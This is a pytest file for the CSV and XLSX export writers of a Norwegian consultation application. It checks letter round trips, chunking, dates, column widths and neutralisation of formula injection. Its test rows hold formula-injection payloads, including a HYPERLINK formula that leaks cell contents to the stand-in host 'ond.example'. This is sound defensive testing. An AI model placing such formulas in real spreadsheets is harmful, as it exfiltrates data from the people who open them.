"""The CSV and XLSX writers: æøå survive a round trip, nothing a spreadsheet would run gets through, and
the XLSX is ready to work in: dates, a frozen header, filters and column widths."""
from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from hoering.exports.writers import BOM, MAX_WIDTH, MIN_WIDTH, column_widths, csv_chunks, neutralise, write_xlsx

HEADER = ["ID", "Navn", "Tekst"]
ROWS = [
    [1, "Ærlige Øystein Åsen", "Blåbærsyltetøy og æøå ÆØÅ"],
    [2, "Mallory", "=HYPERLINK(\"http://ond.example/?\"&A1,\"Klikk\")"],
    [3, "+47 in front", "+SUM(1,2)"],
    [4, "Kari", "-2+3"],
    [5, "Per", "@SUM(A1:A2)"],
    [6, "Tab", "\t=1+1"],
    [7, "CR", "\r=1+1"],
    [8, "Linje", "Første linje\nandre linje, med «sitat» og \"anførselstegn\""],
    [-9, None, ""],
]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Jeg støtter forslaget", "1+1=2", "", -5, 3.5, None])
def test_other_values_are_left_alone(value):
    assert neutralise(value) == value


def read_csv(rows=ROWS, **options) -> tuple[str, list[list[str]]]:
    text = "".join(csv_chunks(HEADER, iter(rows), **options))
    data = text.encode("utf-8")
    return text, list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_starts_with_the_utf8_bom():
    text, _ = read_csv()
    assert text.startswith(BOM)
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("rows_per_chunk", [1, 3, 500])
def test_csv_round_trip_keeps_norwegian_letters_and_neutralises_formulas(rows_per_chunk):
    _, parsed = read_csv(rows_per_chunk=rows_per_chunk)
    assert parsed[0] == HEADER
    assert parsed[1] == ["1", "Ærlige Øystein Åsen", "Blåbærsyltetøy og æøå ÆØÅ"]
    assert parsed[2][2] == "'=HYPERLINK(\"http://ond.example/?\"&A1,\"Klikk\")"
    assert parsed[3][1:] == ["'+47 in front", "'+SUM(1,2)"]
    assert [row[2] for row in parsed[4:8]] == ["'-2+3", "'@SUM(A1:A2)", "'\t=1+1", "'\r=1+1"]
    assert parsed[8][2] == "Første linje\nandre linje, med «sitat» og \"anførselstegn\""
    assert parsed[9] == ["-9", "", ""]
    assert len(parsed) == len(ROWS) + 1


def test_csv_is_yielded_in_chunks_not_all_at_once():
    chunks = list(csv_chunks(HEADER, iter(ROWS), rows_per_chunk=2))
    assert len(chunks) == 1 + 5  # header, then 9 rows two at a time


def read_xlsx(tmp_path, rows=ROWS):
    path = tmp_path / "innspill.xlsx"
    write_xlsx(HEADER, iter(rows), path, sheet_title="Innspill")
    return load_workbook(path)["Innspill"]


def test_xlsx_round_trip_keeps_norwegian_letters_and_numbers(tmp_path):
    sheet = read_xlsx(tmp_path)
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0] == HEADER
    assert values[1] == [1, "Ærlige Øystein Åsen", "Blåbærsyltetøy og æøå ÆØÅ"]
    assert values[8][2] == "Første linje\nandre linje, med «sitat» og \"anførselstegn\""
    assert values[9] == [-9, None, None]


def test_xlsx_stores_formula_like_text_as_text_never_as_a_formula(tmp_path):
    sheet = read_xlsx(tmp_path)
    cells = [row[2] for row in sheet.iter_rows(min_row=3, max_row=8)]
    assert [cell.data_type for cell in cells] == ["s"] * 6
    assert cells[0].value == "'=HYPERLINK(\"http://ond.example/?\"&A1,\"Klikk\")"
    assert [cell.value[:2] for cell in cells] == ["'=", "'+", "'-", "'@", "'\t", "'\r"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_replaces_characters_xml_cannot_hold_instead_of_failing(tmp_path):
    rows = [[1, "Ola\x00", "tekst\x07 med bjelle"], [2, "Kari\ufffe", "Nei\uffff takk \ud800"]]
    sheet = read_xlsx(tmp_path, rows=rows)
    assert [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        [1, "Ola\ufffd", "tekst\ufffd med bjelle"], [2, "Kari\ufffd", "Nei\ufffd takk \ufffd"]]


def test_xlsx_dates_are_dates_in_the_given_format(tmp_path):
    path = tmp_path / "innspill.xlsx"
    write_xlsx(["ID", "Opprettet"], iter([[1, datetime(2026, 11, 3, 23, 30)]]), path, date_format="dd.mm.yyyy hh:mm")
    cell = load_workbook(path).active["B2"]
    assert cell.value == datetime(2026, 11, 3, 23, 30) and cell.is_date
    assert cell.number_format == "dd.mm.yyyy hh:mm"


def test_xlsx_has_a_frozen_header_and_a_filter_over_every_row(tmp_path):
    sheet = read_xlsx(tmp_path)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:C{len(ROWS) + 1}"


def test_xlsx_without_rows_still_filters_its_header(tmp_path):
    assert read_xlsx(tmp_path, rows=[]).auto_filter.ref == "A1:C1"


def test_xlsx_columns_fit_their_header_and_first_rows_within_limits(tmp_path):
    rows = [[n, "Kari", "Et langt innspill " * 20 + "\nandre linje"] for n in range(1, 200)]
    rows.append([200, "Et navn som først kommer etter prøven og er svært langt", "kort"])
    sheet = read_xlsx(tmp_path, rows=rows)
    widths = [sheet.column_dimensions[letter].width for letter in "ABC"]
    assert widths[0] == MIN_WIDTH  # "ID" and small numbers
    assert widths[1] == len("Navn") + 4  # the header (and its filter button): the sample has shorter names
    assert widths[2] == MAX_WIDTH


def test_column_widths_read_only_the_first_line_of_a_text():
    assert column_widths(["Tekst"], [["kort\n" + "x" * 100]]) == [float(len("Tekst") + 4)]
